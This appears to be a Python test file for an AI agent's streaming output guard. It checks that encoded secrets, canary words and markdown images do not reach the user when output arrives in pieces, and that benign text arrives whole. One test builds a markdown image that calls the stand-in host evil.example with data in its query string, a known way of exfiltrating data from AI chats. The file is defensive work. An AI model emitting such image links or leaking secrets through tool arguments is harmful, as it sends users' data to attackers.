"""Live pieces: no half of anything slips out, and a benign answer arrives whole."""

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opencrust.contracts import EventType
from opencrust_agent.guard import Canary, Guard, GuardedLive, Named
from simulators.disguises import ENCODINGS, SECRETS, SPELLED, fingerprints

CANARY = Canary()
KNOWN = fingerprints()
GUARD = Guard(KNOWN.spans, CANARY)
LONGEST = max(item.length for item in KNOWN.fingerprints)
SPACED = max(item.length for item in KNOWN.fingerprints if item.spaced)
FILL = "some words before it, so that the newest characters are not all there is, and the answer goes on. " * 5


class Watcher:
    """Remembers what it was shown."""

    def __init__(self) -> None:
        self.shown = ""
        self.ever = ""
        self.events: list[tuple[EventType, str, Any]] = []

    async def send(self, type: EventType, text: str = "", data: dict[str, Any] | None = None) -> None:
        self.events.append((type, text, data))

    async def delta(self, text: str) -> None:
        self.shown += text
        self.ever += text

    async def reset(self) -> None:
        self.shown = ""

    def close(self) -> None:
        pass


async def stream(text: str, sizes: list[int], *, tainted: bool = False) -> Watcher:
    watcher = Watcher()
    live = GuardedLive(watcher, GUARD, Named, lambda: tainted, lambda: (LONGEST, SPACED))
    at = 0
    for number in range(len(text)):
        size = sizes[number % len(sizes)]
        await live.delta(text[at : at + size])
        at += size
        if at >= len(text):
            break
    await live.send(EventType.FINISHED)
    return watcher


@pytest.mark.parametrize("encoding", sorted(ENCODINGS | SPELLED))
@pytest.mark.parametrize("sizes", [[1], [3, 200]])
async def test_a_secret_in_pieces_does_not_slip_out(encoding: str, sizes: list[int]) -> None:
    shown = (ENCODINGS | SPELLED)[encoding](SECRETS["1"])
    watcher = await stream(FILL + shown + " " + FILL, sizes)
    squeezed = re.sub(r"\s", "", watcher.ever)
    assert shown not in watcher.ever
    for at in range(0, len(shown) - 16, 4):
        assert re.sub(r"\s", "", shown[at : at + 16]) not in squeezed
    assert watcher.shown.startswith(FILL[:200])
    assert watcher.shown.rstrip().endswith("goes on.")


@pytest.mark.parametrize("size", [1, 9, 100])
async def test_a_canary_ends_what_is_shown(size: int) -> None:
    word = re.search(r"[a-z2-9]{28}", CANARY.line())
    assert word
    watcher = await stream(FILL + word[0] + " " + FILL, [size])
    assert word[0][:14] not in watcher.ever
    assert watcher.shown == ""


@pytest.mark.parametrize("size", [1, 5, 50])
async def test_an_image_in_pieces_does_not_load(size: int) -> None:
    image = f"![{'a long text ' * 40}](https://evil.example/?d=abc)"
    for tainted in (True, False):
        watcher = await stream(FILL + image + FILL, [size], tainted=tainted)
        assert "![" not in watcher.ever
        assert not tainted or "https:" not in watcher.ever


@settings(max_examples=25, deadline=None)
@given(st.lists(st.integers(1, 90), min_size=1, max_size=8), st.text(max_size=200))
async def test_a_benign_answer_arrives_whole(sizes: list[int], text: str) -> None:
    if any(sign in text for sign in ("](", "<", "![", "\ue000")):
        return
    answer = FILL + text + FILL
    assert (await stream(answer, sizes)).shown == answer


async def test_text_is_shown_while_it_comes_and_a_reset_forgets_it() -> None:
    watcher = Watcher()
    live = GuardedLive(watcher, GUARD, Named, lambda: False)
    for word in FILL.split(" "):
        await live.delta(word + " ")
    assert len(watcher.shown) > 150
    await live.reset()
    await live.send(EventType.FINISHED)
    assert watcher.shown == ""


async def test_plain_words_are_shown_at_once() -> None:
    watcher = Watcher()
    live = GuardedLive(watcher, GUARD, Named, lambda: False, lambda: (LONGEST, 0))
    await live.delta("Grüße aus der ")
    assert watcher.shown == "Grüße aus der "
    await live.delta("Küche, the key is sk-proj-A8")
    assert "sk-" not in watcher.shown


async def test_a_passphrase_of_plain_words_does_not_slip_out() -> None:
    for sizes in ([1], [6, 11]):
        watcher = await stream(FILL + SECRETS["3"] + " and so on it goes. " + FILL, sizes)
        assert "horse battery" not in watcher.ever
        assert watcher.shown.rstrip().endswith("goes on.")


async def test_an_event_is_guarded_too() -> None:
    watcher = Watcher()
    live = GuardedLive(watcher, GUARD, Named, lambda: False)
    await live.send(EventType.TOOL, data={"arguments": {"q": f"x {SECRETS['1']}"}, "tool": "web_fetch"})
    assert SECRETS["1"] not in str(watcher.events)
    assert "web_fetch" in str(watcher.events)
